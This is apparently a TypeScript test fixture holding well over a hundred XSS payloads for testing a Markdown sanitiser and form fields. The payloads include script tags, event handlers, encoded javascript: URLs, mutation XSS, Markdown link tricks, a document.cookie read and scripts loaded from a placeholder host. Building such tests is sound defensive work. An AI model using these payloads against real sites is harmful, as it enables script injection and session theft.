/**
 * XSS payloads in the style of the OWASP XSS Filter Evasion Cheat Sheet, shared by the
 * Markdown sanitiser's unit test (lib/markdown/render.test.ts) and the end-to-end test that
 * pushes them through every form (e2e/xss.spec.ts). Plain array: add new payloads at the end.
 *
 * Each payload that manages to run calls `alert(...)`; `numberedPayload` makes it call
 * `alert(n)` so a test can tell which payload (and which field) ran.
 */
export const XSS_PAYLOADS: string[] = [
  // Script tags, many casings and shapes.
  "<script>alert(1)</script>",
  "<SCRIPT>alert('XSS')</SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  '<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>',
  "<SCRIPT SRC=//xss.example/.j>",
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "Hello <script>alert(document.cookie)</script> world",
  "</script><script>alert(1)</script>",
  "<!--<script>-->alert(1)<!--</script>-->",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "\u0000<script>alert(1)</script>",
  '<script type="text/javascript">\nalert(1)\n</script>',
  // Images and event handlers.
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src="x" onerror="alert(1)"',
  "<img src=x:gif onerror=window['al\\u0065rt'](0)></img>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<xss onpointerenter=alert(1)>hover me</xss>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<video><source onerror="alert(1)"></video>',
  "<BODY ONLOAD=alert('XSS')>",
  "<details open ontoggle=alert(1)>",
  "<frameset onload=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)></select>",
  '<p/title="x"/onclick=alert(1)>click</p>',
  // Frames, objects, embeds.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  // Dangerous URLs in raw HTML links.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  // Styles.
  "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">x</DIV>",
  "<STYLE>@import 'https://xss.example/xss.css';</STYLE>",
  "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  // Document-level elements.
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
  // Forms.
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<isindex action="javascript:alert(1)" type=image>',
  // Mutation XSS (math / mglyph / namespace confusion).
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  // Markdown link syntax.
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](  javascript:alert(1)  )",
  "[click](<javascript:alert(1)>)",
  "[click](<jav\tascript:alert(1)>)",
  "[click](jav&#x09;ascript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](java\u0000script:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  '[click](https://example.com "\\" onmouseover=\\"alert(1)")',
  '[click](https://example.com/"onmouseover="alert(1))',
  "[![img](https://example.com/a.png)](javascript:alert(1))",
  // Autolinks.
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "<vbscript:msgbox(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "www.example.com/?q=<script>alert(1)</script>",
  'https://example.com/"onmouseover="alert(1)',
  // Reference-style links and images.
  "[ref][x]\n\n[x]: javascript:alert(1)",
  '[x]\n\n[x]: <javascript:alert(1)> "title"',
  "[x][]\n\n[x]: &#106;avascript:alert(1)",
  "![img][r]\n\n[r]: vbscript:msgbox(1)",
  // Markdown images.
  "![img](javascript:alert(1))",
  "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![img](data:image/png;base64,iVBORw0KGgo=)",
  '![a" onerror="alert(1)](https://example.com/x.png)',
  // Payloads inside code, tables and footnotes.
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
  "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| --- | --- |\n| <img src=x onerror=alert(1)> | b |",
  'text[^a" onclick="alert(1)]\n\n[^a" onclick="alert(1)]: note',
  // Added with the end-to-end XSS test (e2e/xss.spec.ts), which also pushes these through
  // the plain-text fields (titles, names, tools): breaking out of attributes, <title>, inline
  // JSON and template syntax matters there.
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "';alert(1);//",
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "\u2028\u2029<script>alert(1)</script>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "<div style=\"background:url('javascript:alert(1)')\">x</div>",
  '<x style="behavior:url(#default#time2)" onbegin="alert(1)">x</x>',
  "<input autofocus onfocus=alert(1)>",
  '<a href="#" onclick="alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">click</a>',
  "[click](data:text/html,%3Cscript%3Ealert(1)%3C%2Fscript%3E)",
  "[click](javascript:alert%281%29)",
  "[click](javascript://%0Aalert(1))",
  "[click](\u0001javascript:alert(1))",
  "[click](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  '![img](x" onerror="alert(1))',
  "![img](<javascript:alert(1)>)",
  "javascript:alert(1)",
];

const ALERT_CALL = /alert\((?:[^()]|\([^()]*\))*\)/g;

/** The payload with every plain `alert(...)` call replaced by `alert(n)`. */
export function numberedPayload(payload: string, n: number): string {
  return payload.replace(ALERT_CALL, `alert(${n})`);
}
